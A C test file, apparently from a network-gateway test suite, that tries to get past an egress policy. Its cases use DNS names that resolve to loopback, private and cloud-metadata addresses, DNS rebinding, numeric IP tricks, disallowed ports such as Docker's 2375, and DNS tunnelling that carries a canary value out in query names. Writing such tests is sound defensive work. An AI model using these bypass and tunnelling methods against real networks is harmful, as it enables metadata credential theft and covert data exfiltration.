/* Ways around the policy of the gateway: names that mean something else, other ports, data in names. */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>

static void patience(int connection) {
    struct timeval limit = {8, 0};
    setsockopt(connection, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
}

/* Asks the job's name server. Gives the answer's code, and an address if there is one. */
static int ask(const char *name, int type, struct in_addr *address) {
    unsigned char message[1024] = {0x12, 0x34, 1, 0, 0, 1}, *at = message + 12;
    struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "198.18.0.1", &server.sin_addr);
    for (const char *label = name; *label;) {
        size_t length = strcspn(label, ".");
        *at++ = length;
        memcpy(at, label, length);
        at += length;
        label += length + (label[length] == '.');
    }
    *at++ = 0;
    *at++ = type >> 8, *at++ = type, *at++ = 0, *at++ = 1;
    int asking = socket(AF_INET, SOCK_DGRAM, 0);
    patience(asking);
    if (connect(asking, (struct sockaddr *)&server, sizeof server) < 0 || send(asking, message, at - message, 0) < 0)
        held("no name server: %s", strerror(errno));
    ssize_t got = recv(asking, message, sizeof message, 0);
    if (got < 12) held("no answer");
    close(asking);
    address->s_addr = 0;
    if (message[7] > 0 && type == 1) memcpy(address, message + got - (message[11] ? 15 : 4), 4);
    return (message[3] & 15) * 256 + message[7];
}

static void dial(struct in_addr address, int port) {
    struct sockaddr_in other = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr = address};
    int connection = socket(AF_INET, SOCK_STREAM, 0);
    patience(connection);
    if (connect(connection, (struct sockaddr *)&other, sizeof other) < 0) held("%s", strerror(errno));
    send(connection, "GET / HTTP/1.0\r\n\r\n", 18, MSG_NOSIGNAL);
    if (reads_canary(connection)) broken("it said the canary");
    held("taken, and ended: %s", strerror(errno));
}

static void by_name(const char *name) {
    struct in_addr address;
    int answer = ask(name, 1, &address);
    if (!address.s_addr) held("no address: code %d", answer >> 8);
    dial(address, victim_number("PORT"));
}

static void by_name_twice(const char *name) {
    struct in_addr address;
    for (int count = 0; count < 4; count++) ask(name, 1, &address);
    by_name(name);
}

static void by_number(const char *number) {
    struct in_addr address;
    inet_pton(AF_INET, number, &address);
    dial(address, victim_number("PORT"));
}

static void other_port(const char *port) {
    struct in_addr address;
    ask("allowed.example", 1, &address);
    if (!address.s_addr) broken("the name that is allowed has no address");
    dial(address, atoi(port));
}

/* The control: a name that is allowed is reached, so the rest means something. */
static void allowed(const char *unused) {
    (void)unused;
    struct in_addr address;
    ask("allowed.example", 1, &address);
    if (!address.s_addr) broken("the name that is allowed has no address");
    struct sockaddr_in other = {.sin_family = AF_INET, .sin_port = htons(victim_number("PORT")), .sin_addr = address};
    int connection = socket(AF_INET, SOCK_STREAM, 0);
    patience(connection);
    if (connect(connection, (struct sockaddr *)&other, sizeof other) < 0 || !reads_canary(connection)) broken("what is allowed is not reached");
    held("what is allowed is reached");
}

/* Data in a question; the test looks whether anybody outside was asked. */
static void tunnel(const char *type) {
    char name[200];
    struct in_addr address;
    snprintf(name, sizeof name, "%s.tunnel.example", victim("CANARY"));
    int answer = ask(name, atoi(type), &address);
    if (answer & 255) broken("an answer with %d records", answer & 255);
    held("code %d and nothing else", answer >> 8);
}

const struct attack attacks[] = {
    {"allowed-name", allowed, NULL}, {"name-of-loopback", by_name, "loopback.example"},
    {"name-of-private", by_name, "private.example"}, {"name-of-metadata", by_name, "metadata.example"},
    {"name-of-own-address", by_name, "own.example"}, {"name-of-mapped", by_name, "mapped.example"},
    {"name-rebinding", by_name_twice, "rebinding.example"}, {"name-localhost", by_name, "localhost"},
    {"name-metadata-google", by_name, "metadata.google.internal"}, {"name-as-number", by_name, "127.0.0.1"},
    {"name-as-short-number", by_name, "2130706433"}, {"name-not-allowed", by_name, "other.example"},
    {"name-below-allowed", by_name, "sub.allowed.example"}, {"name-with-allowed-in-it", by_name, "notallowed.example"},
    {"number-loopback", by_number, "127.0.0.1"}, {"number-private", by_number, "10.11.12.1"},
    {"number-own-address", by_number, "203.0.113.9"}, {"number-metadata", by_number, "169.254.169.254"},
    {"number-guessed", by_number, "198.18.77.77"}, {"port-not-allowed", other_port, "80"}, {"port-mail", other_port, "25"},
    {"port-docker", other_port, "2375"}, {"tunnel-a", tunnel, "1"}, {"tunnel-txt", tunnel, "16"},
    {"tunnel-null", tunnel, "10"}, {"tunnel-mx", tunnel, "15"}, {"tunnel-any", tunnel, "255"},
    {NULL, NULL, NULL},
};
